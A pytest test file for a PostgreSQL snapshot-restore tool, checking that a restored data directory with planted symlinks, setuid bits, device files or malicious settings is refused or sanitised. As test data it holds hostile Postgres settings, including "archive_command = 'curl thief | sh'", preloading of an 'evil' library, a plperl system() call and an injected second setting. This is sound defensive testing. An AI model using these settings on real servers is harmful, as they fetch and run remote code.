"""What a snapshot brings may be made up: nothing is written through it, owned beyond it, or started from it."""

from __future__ import annotations

import getpass
import os
import shutil
import stat
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from types import SimpleNamespace
from typing import Any

import psycopg
import pytest

from resilience.errors import Refused, VaultError
from resilience.replication import base, scratch, sessions, settings, standby, tally, verify
from resilience.replication.appfolders import Misplaced
from resilience.replication.brought import refuse_planted
from resilience.replication.config import Postgres, write_atomic
from resilience.replication.segments import Segments
from resilience.replication.snapshot import refuse_links
from tests.replication.harness import postgres_bin


@pytest.fixture
def pg(tmp_path: Path) -> Path:
    """What every snapshot of ours brings, as far as it matters here."""
    folder = tmp_path / "pg"
    for part in ("global", "pg_wal", "base/1"):
        (folder / part).mkdir(parents=True)
    (folder / "base/1/1259").write_bytes(b"rows")
    (folder / "postgresql.auto.conf").write_text("")
    (folder / "resilience.json").write_text("{}")
    return folder


def instead(path: Path, make: Callable[[Path], object]) -> None:
    """Something else under this name."""
    if path.is_dir():
        path.rmdir()
    else:
        path.unlink()
    make(path)


PLANTED: dict[str, Callable[[Path], Any]] = {
    "backup_label is a link": lambda pg: (pg / "backup_label").symlink_to("/nowhere"),
    "base/1/2 is a link": lambda pg: (pg / "base/1/2").symlink_to("1259"),
    "base/1/2 is a pipe": lambda pg: os.mkfifo(pg / "base/1/2"),
    "base/1/2 is a device": lambda pg: os.mknod(pg / "base/1/2", stat.S_IFBLK | 0o666, os.makedev(1, 5)),
    "pg_wal is a link": lambda pg: instead(pg / "pg_wal", lambda path: path.symlink_to("/etc")),
    "pg_wal is no folder": lambda pg: (pg / "pg_wal").rmdir(),
    "backup_label is there": lambda pg: (pg / "backup_label").mkdir(),
    "tablespace_map is there": lambda pg: (pg / "tablespace_map").write_text("1 /etc"),
    "postmaster.pid is there": lambda pg: (pg / "postmaster.pid").write_text("1"),
    "postgresql.auto.conf is a folder": lambda pg: instead(pg / "postgresql.auto.conf", Path.mkdir),
    ".resilience.json.new is a folder": lambda pg: (pg / ".resilience.json.new").mkdir(),
}


@pytest.mark.parametrize("what", PLANTED)
def test_what_no_snapshot_of_ours_has_is_refused(pg: Path, what: str) -> None:
    """The error names it, whose doing it is, and what to do."""
    refuse_planted(pg)
    PLANTED[what](pg)
    with pytest.raises(VaultError) as told:
        refuse_planted(pg)
    assert told.value.what == f"This copy was not made by our snapshot: {what}."


def test_nothing_there_runs_as_somebody_else(pg: Path) -> None:
    """A program that would run as root, and a folder whose group goes on to its files, lose that; rights stay else."""
    (pg / "base/1/1259").chmod(0o4750)
    (pg / "base").chmod(0o2750)
    refuse_planted(pg)
    assert stat.S_IMODE((pg / "base/1/1259").stat().st_mode) == 0o750
    assert stat.S_IMODE((pg / "base").stat().st_mode) == 0o750


def test_no_link_is_written_through(pg: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Links that come after that look, from whoever rules Postgres: what they lead to stays as it was, and is nobody else's."""
    victim = tmp_path / "victim"
    victim.mkdir()
    secret = victim / "secret"
    secret.write_text("port = 1\nmine\n")
    secret.chmod(0o600)
    for name in ("backup_label", "global/pg_control", "standby.signal", ".standby.signal.new", ".resilience.json.new"):
        (pg / name).symlink_to(victim / name.replace("/", "-"))
    for name in ("postgresql.auto.conf", ".postgresql.auto.conf.new"):
        (pg / name).unlink(missing_ok=True)
        (pg / name).symlink_to(secret)
    (tmp_path / "wal/restored").mkdir(parents=True)
    (tmp_path / "wal/restored" / ("0" * 24)).write_bytes(b"wal")
    config: Any = SimpleNamespace(
        paths=SimpleNamespace(pg=pg, wal=tmp_path / "wal"),
        postgres=SimpleNamespace(user=getpass.getuser(), bin=tmp_path),
        record=SimpleNamespace(nonce="n", number=2),
    )
    monkeypatch.setattr(standby, "needed", lambda _: {})
    base.finish(config, SimpleNamespace(backup_label="label", control=b"control"))  # type: ignore[arg-type]
    base.mark(config, base.CLONING)
    standby.prepare(config, Segments(pg / base.WAL, 1 << 20))
    (pg / base.WAL).rmdir()
    (pg / base.WAL).symlink_to(victim)
    with pytest.raises(Misplaced, match="can't be used"):
        Segments(tmp_path / "wal/restored", 1 << 20).move(pg / base.WAL)
    assert [path.name for path in victim.iterdir()] == ["secret"]
    assert secret.read_text() == "port = 1\nmine\n"
    assert "mine" not in (pg / "postgresql.auto.conf").read_text()
    assert (pg / "backup_label").read_text() == "label"
    assert base.cloning(config)
    assert not (pg / "standby.signal").is_symlink()


def test_a_copy_begins_anew_whatever_was_left(pg: Path, tmp_path: Path) -> None:
    """A restic that was killed half-way left a folder where the marker is made: it goes."""
    (pg / ".resilience.json.new/deep").mkdir(parents=True)
    config: Any = SimpleNamespace(paths=SimpleNamespace(pg=pg), record=SimpleNamespace(nonce="n", number=2))
    base.afresh(config, base.CLONING)
    assert [path.name for path in pg.iterdir()] == ["resilience.json"]
    assert stat.S_IMODE(pg.stat().st_mode) == 0o700


def test_nobody_but_root_is_there_while_a_copy_comes(pg: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What still runs as Postgres' user, as which a thief's code ran, swaps no folder that restic writes into: the first word is root's already."""
    shutil.chown(pg, "postgres")
    pg.chmod(0o770)
    seen: list[tuple[int, int]] = []

    def watched(path: Path, data: bytes) -> None:
        seen.append((pg.stat().st_uid, stat.S_IMODE(pg.stat().st_mode)))
        write_atomic(path, data)

    monkeypatch.setattr("resilience.replication.base.write_atomic", watched)
    config: Any = SimpleNamespace(paths=SimpleNamespace(pg=pg), record=SimpleNamespace(nonce="n", number=2))
    base.afresh(config, base.CLONING)
    assert seen == [(0, 0o700)]
    assert (pg.stat().st_uid, stat.S_IMODE(pg.stat().st_mode)) == (0, 0o700)


def test_a_file_is_replaced_and_no_link_followed(tmp_path: Path) -> None:
    """Neither where it goes nor what it is made as first."""
    (tmp_path / "theirs").write_text("theirs")
    for name in ("ours", ".ours.new"):
        (tmp_path / name).symlink_to("theirs")
    write_atomic(tmp_path / "ours", b"ours", 0o600)
    assert (tmp_path / "theirs").read_text() == "theirs"
    assert stat.S_IMODE((tmp_path / "ours").lstat().st_mode) == 0o600
    assert (tmp_path / "ours").read_text() == "ours"


def test_no_setting_of_theirs_names_what_is_run_or_read() -> None:
    """Numbers, switches and words go on, as Postgres itself tells them apart; what begins a program, loads a library or reads a file does not."""
    going_on = [
        "max_connections = '120'",
        "log_connections = 'on'",
        "wal_compression = 'lz4'",
        "synchronous_standby_names = 'ship'",
        "TimeZone = 'Europe/Berlin'",
    ]
    left_out = [
        "shared_preload_libraries = 'base/1/evil'",
        "session_preload_libraries = 'base/1/evil'",
        "archive_command = 'curl thief | sh'",
        "Restore_Command 'curl thief | sh'",
        "hba_file = '/tmp/hba'",
        "include 'more.conf'",
        "plperl.on_init = 'system(1)'",
        "jit_provider = evil",
        "work_mem = '1\\'",
        "max_connections = 1\x0bshared_preload_libraries = evil",
        "default_transaction_read_only = 'on'",
        "port = 1",
        "=",
    ]
    text = "\n".join(["# Do not edit this file manually!", *going_on, "", *left_out])
    assert settings.kept(postgres_bin(), text).splitlines() == going_on


SPOILT = (
    "shared_preload_libraries = '/nowhere/evil'\nsession_preload_libraries = '/nowhere/evil'\nhba_file = '/nowhere'\n"
)

LOADING = (
    "CREATE ROLE them LOGIN",
    "CREATE DATABASE theirs OWNER them",
    "ALTER DATABASE theirs SET session_preload_libraries = '/nowhere/evil'",
    "ALTER ROLE them IN DATABASE theirs SET session_preload_libraries = '/nowhere/evil'",
    "ALTER ROLE them IN DATABASE theirs SET timezone = 'Asia/Tokyo'",
)


@pytest.fixture
def copy() -> Iterator[SimpleNamespace]:
    """A stopped database of a thief's: one of its databases, and all of its settings, load his library."""
    tools = postgres_bin()
    with TemporaryDirectory() as made:
        folder = Path(made)
        shutil.chown(folder, "postgres")
        (folder / "run").mkdir(mode=0o700)
        shutil.chown(folder / "run", "postgres")
        as_postgres = ["setpriv", "--reuid=postgres", "--regid=postgres", "--init-groups"]
        initdb = [str(tools / "initdb"), "-D", str(folder / "pg"), "-N", "-U", "postgres", "-A", "trust"]
        subprocess.run([*as_postgres, *initdb], check=True, stdout=subprocess.DEVNULL, cwd="/")
        spoil = "".join(f"{statement};\n" for statement in LOADING)
        single = [str(tools / "postgres"), "--single", "-D", str(folder / "pg"), "postgres"]
        subprocess.run([*as_postgres, *single], input=spoil, text=True, check=True, stdout=subprocess.DEVNULL, cwd="/")
        for name in ("postgresql.conf", "postgresql.auto.conf"):
            with (folder / "pg" / name).open("a") as file:
                file.write(SPOILT)
        (folder / "pg/pg_hba.conf").write_text("local all all reject\n")
        paths = SimpleNamespace(pg=folder / "pg", wal=folder / "wal", run=folder / "run")
        server = Postgres(dsn="", start=[], stop=[], bin=tools, fsync=False)
        config = SimpleNamespace(paths=paths, postgres=server)
        config.model_copy = lambda update: SimpleNamespace(paths=paths, **update)
        yield SimpleNamespace(config=scratch.settle_in(config), label=SimpleNamespace(vault="elm"))  # type: ignore[arg-type]


def interfaces(db: psycopg.Connection[Any]) -> list[str]:
    """The network as Postgres sees it."""
    (told,) = db.execute("SELECT pg_read_file('/proc/net/dev')").fetchone() or ("",)
    return [line.partition(":")[0].strip() for line in told.splitlines() if ":" in line]


def test_a_copy_is_started_by_settings_of_our_own(copy: SimpleNamespace) -> None:
    """None of his is obeyed, whether files, the database or nobody names it; tables are counted, and pg_amcheck runs."""
    config = copy.config
    scratch.configure(config)
    with (config.paths.run / "hba.conf").open("w") as hba:
        hba.write("local all all trust\n")
    subprocess.run(config.postgres.start, check=True, capture_output=True, cwd="/")
    try:
        with sessions.superuser(config.postgres.dsn, "theirs") as theirs:
            assert theirs.execute("SHOW session_preload_libraries").fetchone() == ("",)
        with sessions.superuser(config.postgres.dsn) as db:
            files = db.execute("SELECT name, setting FROM pg_file_settings ORDER BY 1").fetchall()
            assert files == [("fsync", "off"), ("listen_addresses", "")]
            scratch.load_nothing(db)
            assert tally.whole(config, db) == {}
            assert interfaces(db) == ["lo"], "what he put into the database could call him"
        with sessions.as_owner(config.postgres.dsn, "theirs") as theirs:
            told = theirs.execute("SELECT current_user::text, current_setting('timezone')").fetchone()
            assert told == ("them", "Asia/Tokyo"), "what names no library stays"
        verify._index_check(copy)  # type: ignore[arg-type]
    finally:
        subprocess.run(config.postgres.stop, check=True, capture_output=True, cwd="/")


def test_a_snapshot_that_no_restore_would_take_is_not_made(tmp_path: Path) -> None:
    """A link in the data directory is told on the day it matters to nobody yet."""
    (tmp_path / "base/5").mkdir(parents=True)
    (tmp_path / "log").symlink_to("/var/log")
    refuse_links(tmp_path)
    for name in ("pg_wal", "server.crt", "base/5/1249"):
        (tmp_path / name).symlink_to("/somewhere")
        with pytest.raises(Refused, match=rf"there are links: {name}\."):
            refuse_links(tmp_path)
        (tmp_path / name).unlink()
